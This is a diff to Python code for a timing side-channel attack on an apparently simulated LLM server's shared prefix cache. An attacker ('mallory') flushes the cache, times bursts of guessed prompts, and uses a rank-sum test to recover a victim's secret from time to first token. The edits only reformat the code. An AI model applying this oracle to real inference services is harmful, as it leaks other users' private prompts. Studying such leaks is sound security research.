@@ -47,13 +47,14 @@ def time_burst(server: FrontDoor, prompts: list[str], ledger: TimingLedger) -> f
 
 
 def flush_cache(server: FrontDoor, rng: random.Random, tokens: int) -> int:
-    """Send `tokens` characters of random filler (past the pool's size, every parked page goes); the prompts sent."""
-    sizes = [FILLER_CHARS] * (tokens // FILLER_CHARS) + ([tokens % FILLER_CHARS] if tokens % FILLER_CHARS > 1 else [])
+    """Send `tokens` characters of filler (past the pool's size: every parked page goes); the prompts sent."""
+    whole, rest = divmod(tokens, FILLER_CHARS)
+    sizes = [FILLER_CHARS] * whole + ([rest] if rest > 1 else [])
     return len(send_probes(server, [filler(rng, chars) for chars in sizes], ATTACKER))
 
 
 def ranks_within_cycles(samples: Sequence[Sequence[float]]) -> list[list[int]]:
-    """ranks[g][i]: guess g's place in cycle i, 1 for the fastest burst of that cycle (ties: lower g first)."""
+    """ranks[g][i]: guess g's place in cycle i, 1 for the fastest burst of the cycle (ties: lower g first)."""
     return rankdata(samples, axis=0, method="ordinal").tolist()  # (guesses, cycles)
 
 
@@ -68,8 +69,8 @@ def rank_sum_p_value(rank_sum: int, cycles: int, guesses: int) -> float:
 
 
 def fastest_if_significant(samples: Sequence[Sequence[float]], alpha: float) -> tuple[int | None, float]:
-    """(the guess faster than the others, or None; its p-value) from samples[g][i], guess g's burst time in
-    cycle i: the lowest rank sum, tested one-sided by its exact null distribution, wins if p < alpha / guesses."""
+    """(the guess faster than the others, or None; its p-value) from samples[g][i], guess g's burst time
+    in cycle i: the lowest rank sum wins if p < alpha / guesses (one-sided, its exact null distribution)."""
     k, n = len(samples), len(samples[0])
     assert k >= 2 and all(len(s) == n for s in samples), "every guess needs one time per cycle"
     sums = [sum(r) for r in ranks_within_cycles(samples)]
@@ -78,8 +79,9 @@ def fastest_if_significant(samples: Sequence[Sequence[float]], alpha: float) -> 
     return (best if p < alpha / k else None), p
 
 
-def timing_oracle(server: FrontDoor, refresh_prompt: str, rng: random.Random, flush_tokens: int, ledger: TimingLedger,
-                  burst: int = 64, min_cycles: int = 5, max_cycles: int = 24, alpha: float = 0.001) -> Oracle:
+def timing_oracle(server: FrontDoor, refresh_prompt: str, rng: random.Random, flush_tokens: int,
+                  ledger: TimingLedger, burst: int = 64, min_cycles: int = 5, max_cycles: int = 24,
+                  alpha: float = 0.001) -> Oracle:
     """An `Oracle` (as `cached_tokens_oracle`) answered from times to first token alone: at most one
     True, the guess the test accepted. `flush_tokens` must exceed the prefix cache's size in tokens."""
     assert 1 <= min_cycles <= max_cycles and burst >= 1, "bad timing plan"
@@ -96,7 +98,8 @@ def timing_oracle(server: FrontDoor, refresh_prompt: str, rng: random.Random, fl
             time_burst(server, [known + TAILS[0]], ledger)  # what she knows is cached for her too
             ledger.warmups += 1
             for g in rng.sample(range(len(stems)), len(stems)):
-                times[g].append(time_burst(server, [stems[g] + TAILS[j % len(TAILS)] for j in range(burst)], ledger))
+                probes = [stems[g] + TAILS[j % len(TAILS)] for j in range(burst)]
+                times[g].append(time_burst(server, probes, ledger))
                 ledger.probes += burst
             ledger.cycles += 1
             if cycle + 1 >= min_cycles:
@@ -109,14 +112,15 @@ def timing_oracle(server: FrontDoor, refresh_prompt: str, rng: random.Random, fl
     return ask
 
 
-def timing_attack(server: FrontDoor, secret: str, page_size: int, flush_tokens: int, alphabet: str = SECRET_ALPHABET,
-                  rng: random.Random | None = None, ledger: TimingLedger | None = None,
-                  **plan: float) -> ProbeOutcome:
+def timing_attack(server: FrontDoor, secret: str, page_size: int, flush_tokens: int,
+                  alphabet: str = SECRET_ALPHABET, rng: random.Random | None = None,
+                  ledger: TimingLedger | None = None, **plan: float) -> ProbeOutcome:
     """Alice saves `secret`, and her app sends the same prompt again at every cycle; mallory
     recovers it from times to first token alone (`plan`: timing_oracle's burst, cycles, alpha)."""
     victim = victim_saves(server, secret)
     ledger, start = ledger if ledger is not None else TimingLedger(), time.perf_counter()
-    oracle = timing_oracle(server, victim_prompt(secret), rng or random.Random(0), flush_tokens, ledger, **plan)
+    rng = rng or random.Random(0)
+    oracle = timing_oracle(server, victim_prompt(secret), rng, flush_tokens, ledger, **plan)
     recovered, _ = recover_secret(oracle, page_size, alphabet=alphabet)
     requests = ledger.probes + ledger.filler + ledger.warmups
     return ProbeOutcome(victim, ledger.last, recovered, requests, time.perf_counter() - start, ledger.cycles)
